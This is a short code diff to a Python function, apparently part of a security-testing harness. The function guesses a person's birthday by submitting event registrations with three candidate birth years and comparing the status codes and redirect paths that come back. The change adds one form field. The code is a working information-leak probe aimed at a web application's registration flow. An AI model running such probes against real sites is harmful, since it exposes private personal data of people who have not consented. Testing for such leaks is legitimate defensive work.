@@ -33,7 +33,7 @@ def guess_a_birthday(target: Target, world: World) -> Got:
     answers = set()
     for year in (born.year - 1, born.year, born.year + 1):
         data = {"name": person.name, "telephone": "204 555 0199", "email": "x@attacker.test"}
-        data |= {"date_of_birth": f"{year}-{born.month:02}-{born.day:02}"}
+        data |= {"date_of_birth": f"{year}-{born.month:02}-{born.day:02}", "sure": "on"}
         answer = browser.post(f"/events/{event.slug}/register/", data=data)
         location = answer.headers.get("Location", "").split("/")[:5]
         answers.add((answer.status_code, "/".join(location)))
